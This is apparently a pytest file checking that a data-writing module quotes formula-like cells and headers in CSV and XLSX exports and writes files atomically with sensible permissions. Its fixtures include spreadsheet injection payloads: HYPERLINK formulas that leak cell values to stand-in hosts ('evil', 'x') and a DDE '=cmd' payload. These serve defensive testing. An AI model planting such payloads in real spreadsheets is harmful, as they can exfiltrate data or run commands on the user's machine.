"""Written files are safe to open in a spreadsheet and appear whole or not at all."""

from __future__ import annotations

import csv
import errno
import io
import os
import stat
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pytest
from openpyxl import load_workbook

import data.writing
from data.io import DataFileError, read_table
from data.simulate import simulate_to_dir
from data.validation import quarantine_frame, validate_file
from data.writing import (
    atomic_outputs,
    neutralised_text,
    plain_temporary,
    write_table,
    write_table_to,
)
from tests.data.conftest import HISTORY_NAMES, history_rows

FORMULAS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]
TABLE = pd.DataFrame(
    {
        "msme_id": [*FORMULAS, "-2+3", "\t=1", "H7"],
        "uplift": [-0.05, 0.1, -1.0, 0.0, 0.2, 0.3, 0.4],
    }
)


def test_csv_text_cells_starting_a_formula_get_a_quote_numbers_stay(tmp_path: Path) -> None:
    text = write_table(TABLE, tmp_path / "out.csv").read_text()

    back = pd.read_csv(tmp_path / "out.csv", dtype={"msme_id": str})
    assert back["msme_id"].tolist()[:6] == ["'" + value for value in [*FORMULAS, "-2+3", "\t=1"]]
    assert back["msme_id"].iloc[6] == "H7"
    assert back["uplift"].tolist() == TABLE["uplift"].tolist()  # -0.05 stays a number
    assert "\n-0.05" not in text and ",-0.05" in text


def _written_csv(frame: pd.DataFrame, path: Path) -> list[list[str]]:
    """The cells of `frame` as `write_table` writes them in CSV, header first."""
    return list(csv.reader(io.StringIO(write_table(frame, path).read_text(), newline="")))


def test_csv_headers_starting_a_formula_get_a_quote(tmp_path: Path) -> None:
    """A column of the file's own named as a formula (the list exports, the quarantine files of
    `umkm score`, `umkm prioritize` and training) is written as text, like its cells."""
    link = '=HYPERLINK("http://evil/?x="&A2,"open")'
    frame = pd.DataFrame({"msme_id": ["H1"], link: ["x"], "+saldo": [1.5], "@note": ["y"], 7: [1]})

    header, row = _written_csv(frame, tmp_path / "own.csv")

    assert header == ["msme_id", "'" + link, "'+saldo", "'@note", "7"]
    assert row == ["H1", "x", "1.5", "y", "1"]
    assert frame.columns.tolist()[1] == link  # the caller's frame is left as it was


def test_a_quarantine_file_writes_an_own_header_as_text(tmp_path: Path) -> None:
    """A file read with an own column named `=HYPERLINK(…)` (from a workbook's text cell), its
    rejected rows quarantined as CSV: the header is text there too."""
    link = '=HYPERLINK("http://evil/?x="&A2,"open")'
    frame = history_rows(3)
    frame.loc[1, "owner_age"] = "abc"
    frame[link] = ["a", "b", "c"]
    result = validate_file(write_table(frame, tmp_path / "history.xlsx"))

    header, *rows = _written_csv(quarantine_frame(result), tmp_path / "quarantine.csv")

    assert "'" + link in header and link not in header
    assert len(rows) == 1


def test_contract_headers_read_back_unchanged(tmp_path: Path) -> None:
    """No contract header starts with a trigger: a file written and read back is the same."""
    frame = history_rows(4)

    back = read_table(write_table(frame, tmp_path / "history.csv"))

    assert back.columns.tolist() == frame.columns.tolist()
    assert not [name for name in HISTORY_NAMES if neutralised_text(name) != name]


@pytest.mark.parametrize(
    "dtype",
    [
        "category",
        "string[pyarrow]",
        pd.ArrowDtype(pa.string()),
        pd.ArrowDtype(pa.large_string()),
        pd.ArrowDtype(pa.dictionary(pa.int32(), pa.string())),
        "string",
    ],
    ids=["category", "string-pyarrow", "arrow-string", "arrow-large", "arrow-dictionary", "string"],
)
def test_text_columns_of_every_type_get_the_quote(tmp_path: Path, dtype: Any) -> None:
    """Categorical and pyarrow text columns were skipped: `=c` was written as a formula."""
    frame = pd.DataFrame({"note": pd.Series(["=c", "-1+1", "ok", None], dtype=dtype)})

    cells = _written_csv(frame, tmp_path / "typed.csv")

    assert cells == [["note"], ["'=c"], ["'-1+1"], ["ok"], [""]]


def test_numbers_booleans_and_times_stay_as_they_are(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "uplift": pd.Series([-0.5], dtype=pd.ArrowDtype(pa.float64())),
            "count": pd.array([-2], dtype="Int64"),
            "flag": pd.Series([True], dtype=pd.ArrowDtype(pa.bool_())),
            "when": pd.to_datetime(["2026-01-10"]),
        }
    )

    assert _written_csv(frame, tmp_path / "plain.csv")[1] == ["-0.5", "-2", "true", "2026-01-10"]


def test_every_owasp_trigger_gets_the_quote() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralised_text(f"{trigger}1+1") == f"'{trigger}1+1"
    assert neutralised_text("H-1") == "H-1"


def test_xlsx_text_cells_are_text_never_formulas(tmp_path: Path) -> None:
    write_table(TABLE, tmp_path / "out.xlsx")

    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    ids = [sheet.cell(row, 1) for row in range(2, 9)]
    assert [cell.data_type for cell in ids] == ["s"] * 7
    assert [cell.value for cell in ids][:4] == FORMULAS
    assert [sheet.cell(row, 2).value for row in range(2, 9)] == TABLE["uplift"].tolist()
    assert sheet.cell(2, 2).data_type == "n"


def test_xlsx_cannot_hold_control_characters_so_they_are_replaced_not_fatal(
    tmp_path: Path,
) -> None:
    write_table(pd.DataFrame({"note": ["a\x01b"]}), tmp_path / "q.xlsx")

    assert read_table(tmp_path / "q.xlsx")["note"].tolist() == ["a\ufffdb"]


def _full_disk_after(half: int) -> Any:
    """`DataFrame.to_csv` that writes `half` bytes, then fails as a full disk does."""

    def to_csv(self: pd.DataFrame, path: Path, **options: Any) -> None:
        with Path(path).open("w") as handle:
            handle.write("x" * half)
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    return to_csv


def test_a_full_disk_leaves_no_partial_file_and_says_so_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = write_table(TABLE, tmp_path / "scores.csv")
    before = target.read_bytes()
    monkeypatch.setattr(pd.DataFrame, "to_csv", _full_disk_after(100))

    with pytest.raises(DataFileError) as failed:
        write_table(TABLE.iloc[:2], target)

    assert str(failed.value) == (
        f"{target}: cannot write: no space left on the device; free some space or write "
        "elsewhere (nothing was written)"
    )
    assert target.read_bytes() == before  # the previous, complete file is untouched
    assert sorted(path.name for path in tmp_path.iterdir()) == ["scores.csv"]


def test_a_read_only_folder_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Tests run as root here, for whom no folder is read-only: the file system's answer is played.
    def read_only(*_: Any, **__: Any) -> Any:
        raise OSError(errno.EROFS, "Read-only file system", str(tmp_path))

    monkeypatch.setattr(data.writing, "plain_temporary", read_only)

    with pytest.raises(DataFileError, match="read-only file system; write elsewhere"):
        write_table(TABLE, tmp_path / "out.csv")
    assert list(tmp_path.iterdir()) == []


def test_a_pair_appears_together_or_not_at_all(tmp_path: Path) -> None:
    listed, rest = tmp_path / "list.csv", tmp_path / "list_not_selected.csv"

    with (
        pytest.raises(DataFileError, match="no space left"),
        atomic_outputs([listed, rest]) as (listed_file, rest_file),
    ):
        write_table_to(TABLE, listed_file, "csv")
        assert listed_file.parent == tmp_path  # beside the target: a rename, not a copy
        rest_file.write_text("half a fi")
        raise OSError(errno.ENOSPC, "No space left on device", str(rest_file))

    assert list(tmp_path.iterdir()) == []

    with atomic_outputs([listed, rest]) as (listed_file, rest_file):
        write_table_to(TABLE, listed_file, "csv")
        write_table_to(TABLE, rest_file, "csv")
    assert sorted(path.name for path in tmp_path.iterdir()) == [listed.name, rest.name]


@contextmanager
def umask(mask: int) -> Iterator[None]:
    """The process's umask set to `mask` inside the block (tests run one at a time)."""
    previous = os.umask(mask)
    try:
        yield
    finally:
        os.umask(previous)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize(("mask", "expected"), [(0o022, 0o644), (0o027, 0o640), (0o002, 0o664)])
def test_new_outputs_get_what_a_plain_open_gives_not_0600(
    tmp_path: Path, mask: int, expected: int
) -> None:
    """As `open(path, "w")` would create them, so colleagues and a service account can read
    them: 0o666 less the umask (tempfile.mkstemp made every output 0o600)."""
    with umask(mask):
        written = [
            write_table(TABLE, tmp_path / "scores.csv"),
            write_table(TABLE, tmp_path / "scores.parquet"),
            write_table(TABLE, tmp_path / "list.xlsx"),
        ]
        with atomic_outputs([tmp_path / "list.csv", tmp_path / "rest.csv"]) as pair:
            for path in pair:
                write_table_to(TABLE, path, "csv")
        written += [tmp_path / "list.csv", tmp_path / "rest.csv"]
        written += simulate_to_dir(rows=50, seed=0, output=tmp_path / "sim", fmt="csv").values()
        with (tmp_path / "plain.txt").open("w") as handle:
            handle.write("as open() makes it")
        folder = plain_temporary(tmp_path, ".staging-", directory=True)

    assert _mode(tmp_path / "plain.txt") == expected
    assert {path.name: _mode(path) for path in written} == dict.fromkeys(
        (path.name for path in written), expected
    )
    assert _mode(folder) == 0o777 & ~mask  # as mkdir makes it


def test_an_overwritten_output_keeps_its_own_permissions(tmp_path: Path) -> None:
    """As `open(path, "w")` on an existing file would: a list a team keeps at 0o640 stays so,
    and a 0o644 file is not narrowed to 0o600 by being written again."""
    shared, private = tmp_path / "list.csv", tmp_path / "list.parquet"
    write_table(TABLE, shared)
    write_table(TABLE, private)
    shared.chmod(0o640)
    private.chmod(0o600)

    with umask(0o022):
        write_table(TABLE.iloc[:2], shared)
        write_table(TABLE.iloc[:2], private)

    assert (_mode(shared), _mode(private)) == (0o640, 0o600)
    assert len(read_table(shared)) == 2  # replaced, not left as it was


def test_a_file_is_on_disk_before_its_name_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each temporary file is flushed (`fsync`) before it is renamed, and the folder after: a
    power cut leaves the old file or the new one under the name, never an empty one."""
    synced: list[tuple[str, bool]] = []  # (what was synced, whether the final name existed then)
    real_fsync = os.fsync
    target = tmp_path / "out" / "list.csv"

    def recording_fsync(descriptor: int) -> None:
        synced.append((str(Path(f"/proc/self/fd/{descriptor}").readlink()), target.exists()))
        real_fsync(descriptor)

    monkeypatch.setattr(os, "fsync", recording_fsync)

    write_table(TABLE, target)

    assert target.is_file()
    temporary, folder = synced
    assert Path(temporary[0]).name.startswith(".list.csv.") and temporary[1] is False
    assert folder == (str(target.parent), True)
